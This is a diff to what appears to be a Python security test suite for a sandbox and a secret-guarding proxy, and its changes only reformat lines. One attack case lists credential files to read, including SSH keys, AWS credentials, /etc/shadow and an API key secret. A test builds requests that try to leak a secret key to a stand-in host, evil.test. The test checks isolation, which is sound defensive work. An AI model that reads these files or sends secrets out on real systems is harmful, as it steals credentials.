@@ -61,8 +61,9 @@ def memory():
 tries(memory)
 """),
     Attack("key-files", "read where keys are kept", """
-for path in ('/root/.ssh/id_ed25519', '/root/.aws/credentials', '/root/.netrc', '/root/.config/gh/hosts.yml',
-             '/run/secrets/ANTHROPIC_API_KEY', '/proc/keys', '/etc/shadow', '/root/.docker/config.json'):
+for path in ('/root/.ssh/id_ed25519', '/root/.aws/credentials', '/root/.netrc',
+             '/root/.config/gh/hosts.yml', '/run/secrets/ANTHROPIC_API_KEY', '/proc/keys',
+             '/etc/shadow', '/root/.docker/config.json'):
     def first(path=path):
         data = read(path)
         if not data: raise OSError('empty')
@@ -262,7 +263,8 @@ async def test_proxy_tells_nothing_of_the_secret(holding: Holding) -> None:
         "        asked.sendall(data.encode())\n"
         "        return asked.recv(65536)\n"
         "for line in ('GET http://evil.test/' + KEY, 'CONNECT ' + KEY + ':443', KEY):\n"
-        "    print(raw(line + ' HTTP/1.1\\r\\nHost: ' + KEY + '\\r\\nX: ' + KEY + '\\r\\n\\r\\n'))\n"
+        "    head = ' HTTP/1.1\\r\\nHost: ' + KEY + '\\r\\nX: ' + KEY + '\\r\\n\\r\\n'\n"
+        "    print(raw(line + head))\n"
     )
     assert shows(printed) == []
     assert shows(repr(holding.here.denied)) == []
